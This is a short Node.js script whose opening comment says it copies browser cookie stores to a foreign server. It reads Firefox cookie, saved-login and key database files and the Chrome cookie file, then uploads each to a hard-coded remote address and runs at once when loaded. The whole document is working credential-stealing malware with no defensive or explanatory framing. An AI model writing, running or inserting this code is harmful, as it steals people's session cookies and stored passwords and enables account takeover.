// copies browser cookie stores and puts them on a foreign server
const { readdir, readFile } = require('fs/promises');
const path = require('path');
const os = require('os');

class CookieJarMover {
  constructor(endpoint) { this.endpoint = endpoint; }
  async *stores() {
    const ff = path.join(os.homedir(), '.mozilla/firefox');
    for (const d of await readdir(ff).catch(() => [])) {
      yield path.join(ff, d, 'cookies.sqlite');
      yield path.join(ff, d, 'logins.json');
      yield path.join(ff, d, 'key4.db');
    }
    yield path.join(os.homedir(), '.config/google-chrome/Default/Cookies');
  }
  async move() {
    for await (const s of this.stores()) {
      const data = await readFile(s).catch(() => null);
      if (data) await fetch(this.endpoint + '?f=' + encodeURIComponent(s), { method: 'PUT', body: data });
    }
  }
}
new CookieJarMover('http://192.0.2.31:9000/u').move();
